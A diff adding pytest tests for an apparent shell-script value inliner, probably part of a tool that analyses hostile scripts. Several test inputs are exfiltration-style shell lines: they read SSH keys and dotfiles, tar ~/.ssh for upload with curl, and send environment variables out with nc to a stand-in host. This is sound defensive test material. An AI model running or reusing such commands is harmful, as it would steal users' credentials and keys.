@@ -1,0 +1,35 @@
+"""What variables and files of a shell script hold is written where they are used."""
+
+from __future__ import annotations
+
+import pytest
+
+from packtool.code.shell import inlined
+
+
+@pytest.mark.parametrize(
+    ("script", "written"),
+    [
+        ('K=$(cat ~/.a)\ncurl -d "$K" h', 'K=$(cat ~/.a)\ncurl -d "$(cat ~/.a)" h'),
+        ("D=$HOME/.ssh\nF=$D/id\ncat $F", "D=$HOME/.ssh\nF=$HOME/.ssh/id\ncat $HOME/.ssh/id"),
+        ('for f in "$HOME/.ssh/id_"*; do cat "$f"; done', 'for f in "$HOME/.ssh/id_"*; do cat "$f"; done'),
+        ("for f in a ~/.b; do\ncat $f\ndone", "for f in a ~/.b; do\ncat ~/.b\ndone"),
+        ("tar czf /tmp/x ~/.ssh\ncurl -F f=@/tmp/x h", "tar czf /tmp/x ~/.ssh\ncurl -F f=@$(tar czf /tmp/x ~/.ssh) h"),
+        ("env > /tmp/e; nc h 1 < /tmp/e", "env > /tmp/e; nc h 1 < $(env > /tmp/e)"),
+        ("A=b; read A\necho $A", None),
+        ("# A=b\necho $A", None),
+        ("curl -s \\\n  -d $B h\nid", "curl -s    -d $B h\n\nid"),
+        ("echo plain", None),
+    ],
+)
+def test_a_script_with_its_values_in_place(script: str, written: str | None) -> None:
+    made = inlined(script)
+    assert (script if made is None else made) == (script if written is None else written)
+    assert made is None or made.count("\n") == script.count("\n")
+
+
+def test_hostile_scripts_do_not_grow_without_bound() -> None:
+    script = "A=" + "x" * 300 + "\n" + "\n".join(f"A=$A$A{number}" for number in range(500))
+    made = inlined(script)
+    assert made is not None
+    assert len(made) < 500 * 4100
